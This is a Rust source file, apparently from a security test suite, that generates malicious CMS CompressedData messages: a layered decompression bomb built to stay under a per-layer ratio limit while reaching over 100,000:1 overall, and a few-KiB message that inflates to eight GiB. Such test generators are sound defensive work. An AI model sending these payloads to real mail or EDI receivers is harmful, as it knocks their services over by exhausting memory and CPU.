//! CompressedData (RFC 3274) that gives far more than it holds.

use flate2::{Compress, Compression, FlushCompress, Status};

use super::Attack;
use crate::{cms::compressed, der::Encoding};

/// The `Content-Type` of CompressedData.
pub const COMPRESSED: &str = "application/pkcs7-mime; smime-type=compressed-data";
const MIB: usize = 1 << 20;

/// So many layers of CompressedData around so many MiB of zeros. With two or more the innermost keeps to
/// 195 : 1, below the limit for one layer; together they reach 100,000 : 1 and more.
pub fn bomb(layers: usize, mib: usize) -> Attack {
    let head = b"Content-Type: application/octet-stream\r\n\r\n";
    let mut zlib = vec![0x78, 0xda];
    deflate(head, FlushCompress::Full, &mut zlib);
    let mut unit = Vec::new();
    deflate(&vec![0; MIB], FlushCompress::Full, &mut unit);
    if layers > 1 {
        // Empty stored blocks.
        while unit.len() < MIB / 195 {
            unit.extend_from_slice(&[0, 0, 0, 0xff, 0xff]);
        }
    }
    zlib.extend(unit.repeat(mib));
    zlib.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
    zlib.extend_from_slice(&adler32(head, mib * MIB).to_be_bytes());
    let body = compressed(&zlib, Encoding::Der);
    let mut attack = Attack { content_type: COMPRESSED.to_owned(), body, output: 0 };
    for _ in 1..layers {
        attack = attack.compressed();
    }
    attack.output += (mib * MIB) as u64;
    attack
}

/// A small order, and beside it eight GiB of blanks, a few KiB on the way: no machine inflates and digests
/// them within seconds.
pub fn endless() -> Attack {
    let head = b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\n\
        Content-Type: application/edifact\r\n\r\nan order\r\n--B\r\n\
        Content-Type: application/octet-stream\r\n\r\n";
    let (mut zlib, mut unit) = (vec![0x78, 0xda], Vec::new());
    deflate(head, FlushCompress::Full, &mut zlib);
    deflate(&vec![b' '; MIB], FlushCompress::Full, &mut unit);
    zlib.extend(unit.repeat(8 * 1024));
    let body = compressed(&zlib, Encoding::Der);
    Attack { content_type: COMPRESSED.to_owned(), body, output: 8 << 30 }.compressed()
}

/// A zlib stream.
pub(super) fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut zlib = flate2::write::ZlibEncoder::new(&mut out, Compression::best());
    std::io::Write::write_all(&mut zlib, bytes).expect("memory takes every byte");
    zlib.finish().expect("memory takes every byte");
    out
}

/// What a CompressedData that this file made holds.
#[cfg(test)]
#[expect(clippy::disallowed_types, reason = "the test knows how much comes out")]
pub(super) fn inflated(cms: &[u8]) -> Vec<u8> {
    let at = cms.windows(2).position(|two| two == [0x78, 0xda]).expect("a zlib stream");
    let mut out = Vec::new();
    let mut zlib = flate2::read::ZlibDecoder::new(&cms[at..]);
    std::io::Read::read_to_end(&mut zlib, &mut out).expect("a whole stream");
    out
}

fn deflate(bytes: &[u8], flush: FlushCompress, out: &mut Vec<u8>) {
    let mut raw = Compress::new(Compression::best(), false);
    loop {
        out.reserve(64 << 10);
        let read = usize::try_from(raw.total_in()).expect("what is in memory fits");
        let status = raw.compress_vec(&bytes[read..], out, flush).expect("deflate does not fail");
        let all = raw.total_in() == bytes.len() as u64;
        if all && (status == Status::BufError || out.len() < out.capacity()) {
            return;
        }
    }
}

/// Of these bytes with zeros behind them.
fn adler32(bytes: &[u8], zeros: usize) -> u32 {
    const BASE: u64 = 65_521;
    let (mut a, mut b) = (1, 0);
    for byte in bytes {
        a = (a + u64::from(*byte)) % BASE;
        b = (b + a) % BASE;
    }
    b = (b + a * (zeros as u64 % BASE)) % BASE;
    u32::try_from(b << 16 | a).expect("two halves below 2^16")
}
